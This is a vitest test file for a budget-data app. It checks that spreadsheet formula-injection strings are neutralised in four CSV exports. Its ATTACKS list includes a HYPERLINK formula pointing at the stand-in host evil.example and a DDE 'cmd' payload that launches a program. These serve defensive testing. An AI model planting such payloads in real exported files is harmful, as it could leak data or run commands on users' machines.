import initSqlJs, { type SqlJsStatic } from 'sql.js';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditCsv } from '../../../src/lib/audit/csv';
import { gridToExcelCsv, peersGrid, yoyGrid } from '../../../src/lib/compare/grid';
import { peersQuery } from '../../../src/lib/compare/peers';
import { loadUnits } from '../../../src/lib/compare/units';
import { yoyQuery } from '../../../src/lib/compare/yoy';
import { loadStoredDocuments } from '../../../src/lib/db/documents';
import { LibraryDb } from '../../../src/lib/db/library';
import type { StoredDocument } from '../../../src/lib/model/document';
import { documentsToRows, neutralizeCell, parseFormatCsv, rowsToCsv } from '../../../src/lib/model/formatCsv';
import { decodeShareData, encodeShareFragment } from '../../../src/lib/share/link';
import { storedAudits } from '../../../src/lib/worker/audits';

/**
 * Issue 14 finding 3: a leading '-' followed by a digit passed as "a number" although the cell is a
 * formula. The attack strings go through all four exports the app offers (library FORMAT CSV, the
 * view's table for Excel, the audit CSV, and the view's data CSV offered when a share link is too
 * long) and no cell may come out that a spreadsheet would evaluate.
 */
const ATTACKS = [
  '-1+HYPERLINK("http://evil.example/?x","x")',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1', '+1+1', '@SUM(A1)', '\t=1', '\r=1', '-', '-x', '- 1', '-1 ', '-1.5e3', '-1,000',
];

let SQL: SqlJsStatic;
beforeAll(async () => {
  SQL = await initSqlJs();
});

/** A cell a spreadsheet could run: starts with a formula character and is not a plain decimal. */
function live(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
}

function liveCells(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  return parsed.data.flat().filter(live);
}

function hostileDoc(i: number, attack: string, year: number): StoredDocument {
  return {
    docId: `d${i}-${year}`, fileName: `${attack}.txt`, tables: [], projects: [], warnings: [],
    meta: { unitCode: `9${i}`, unitName: attack, scope: 'department', stage: 'budget', year },
    figures: [
      { table: 'summary', rowCode: 'expense.grand_total', rowName: attack, column: 'amount', amount: 5_000_000 + i, source: { line: 1 } },
      { table: 'expense', rowCode: 'total', rowName: attack, column: 'total', amount: 4_000_000, source: { line: 2 } },
      { table: 'expense', rowCode: '201', rowName: attack, column: 'total', amount: 4_000_000, source: { line: 3 } },
      { table: 'expense', rowCode: '20101', rowName: attack, column: 'total', amount: -1_000_000, source: { line: 4 } },
    ],
  };
}

describe('formula injection through "-" followed by a digit (issue 14, finding 3)', () => {
  it.each(ATTACKS)('neutralises %j', (attack) => {
    expect(neutralizeCell(attack)).toBe(`'${attack}`);
  });

  it.each(['-12.5', '-0.01', '0', '1441.70', '-7', '2010301', '开发区', ''])('leaves %j as it is', (cell) => {
    expect(neutralizeCell(cell)).toBe(cell);
  });

  it('leaves no live formula in any of the four exports, and the FORMAT CSV reads back the same text', async () => {
    const lib = LibraryDb.create(SQL);
    try {
      const docs = ATTACKS.flatMap((a, i) => [hostileDoc(i, a, 2023), hostileDoc(i, a, 2024)]);
      lib.addDocuments(docs, 'csv', 'h');

      // 1. The library as FORMAT CSV (数据导入导出).
      const library = rowsToCsv(documentsToRows(loadStoredDocuments(lib.db, null)), { bom: true });
      expect(liveCells(library)).toEqual([]);
      const back = parseFormatCsv(library);
      expect(back.errors).toEqual([]);
      // The import trims cells and folds spaces in names; the attacks themselves come back verbatim.
      const names = new Set(back.docs.map((d) => d.meta.unitName));
      for (const a of ATTACKS.slice(0, 2)) expect(names.has(a)).toBe(true);

      // 2. The views' tables for Excel (同比 and 横比).
      const peers = gridToExcelCsv(peersGrid(peersQuery(lib.compare, { year: 2024, stage: 'budget', scope: 'all', selection: { kind: 'all' } })));
      expect(peers).toContain("'-1+HYPERLINK(");
      expect(liveCells(peers)).toEqual([]);
      for (const unit of loadUnits(lib.compare).groups) {
        const yoy = yoyQuery(lib.compare, unit.key, 'budget');
        expect(yoy).not.toBeNull();
        expect(liveCells(gridToExcelCsv(yoyGrid(yoy!)))).toEqual([]);
      }

      // 3. The audit CSV: findings carry the unit's name and the figures' row names.
      const audit = auditCsv(storedAudits(lib, null, true), { bom: true });
      expect(audit).toContain("'-2+3+cmd|");
      expect(liveCells(audit)).toEqual([]);

      // 4. A share link carrying the attack, opened and offered back as the view's data CSV.
      const link = await encodeShareFragment({ view: 'peers' }, docs.slice(0, 4));
      expect(link.ok).toBe(true);
      const ref = await decodeShareData(new URLSearchParams(link.ok ? link.fragment : '').get('data') ?? '');
      expect(ref.kind).toBe('inline');
      const shared = LibraryDb.create(SQL);
      try {
        shared.addDocuments(ref.kind === 'inline' ? ref.docs : [], 'share', 'share:x');
        const viewCsv = rowsToCsv(documentsToRows(loadStoredDocuments(shared.db, null)), { bom: true });
        expect(viewCsv).toContain("'-1+HYPERLINK(");
        expect(liveCells(viewCsv)).toEqual([]);
      } finally {
        shared.close();
      }
    } finally {
      lib.close();
    }
  });
});
